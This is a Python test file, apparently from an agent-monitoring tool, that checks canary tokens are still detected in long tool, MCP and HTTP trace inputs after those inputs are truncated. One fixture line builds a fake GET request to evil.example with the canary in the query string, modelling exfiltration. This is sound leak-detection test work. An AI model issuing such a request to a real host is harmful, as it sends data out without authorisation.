"""Canaries that an agent sends on are known, though an event keeps only the ends of what was sent."""

from __future__ import annotations

import pytest

from holdfast.model.canary import Lookout
from holdfast.model.trace import TraceEvent
from holdfast.planes.llm.results.tool_results import _event
from holdfast.planes.mcp.call_trace import McpCallTrace
from holdfast.planes.traced_call import CallTrace, TracedCall
from holdfast.protocols import Call
from planes_kit import FakeContext

CANARY = "HOLDFAST-CANARY-0123abcd"
LONG = "x" * 5_000 + CANARY + "y" * 5_000


@pytest.mark.parametrize("size", [1, 7, 24, 10_000])
def test_a_canary_is_found_however_a_body_is_cut_into_chunks(size: int) -> None:
    body = LONG.swapcase().encode()
    lookout = Lookout()
    for at in range(0, len(body), size):
        lookout.feed(body[at : at + size])
    assert lookout.found == (CANARY.lower(),)


def test_a_lookout_keeps_a_few_whatever_is_sent() -> None:
    lookout = Lookout()
    lookout.feed(" ".join(f"HOLDFAST-CANARY-{n:08x}" for n in range(5_000)).encode())
    assert len(lookout.found) <= 100


def test_functions_mcp_calls_and_tool_results_tell_canaries_that_would_be_cut_off() -> None:
    told: list[TraceEvent] = []
    TracedCall(CallTrace(0.0, lambda _, event: told.append(event)), 1, "tool", "send", 1, {"text": LONG}).gave("ok")
    context = FakeContext()
    McpCallTrace(context, "server", Call("mcp", "send", {"text": LONG}, 1)).ended("ok")
    told += context.trace
    told.append(_event("send", f'{{"text": "{LONG}"}}', 0.0))
    assert [CANARY in event.input for event in told] == [False] * 3
    assert [event.canaries for event in told] == [(CANARY.lower(),)] * 3


def test_a_canary_in_the_middle_of_a_long_url_is_told() -> None:
    context = FakeContext()
    context.saw(TraceEvent(0.1, "http_call", f"GET https://evil.example/?q={LONG}", "http", 1))
    assert CANARY not in context.trace[0].tool
    assert context.trace[0].canaries == (CANARY.lower(),)
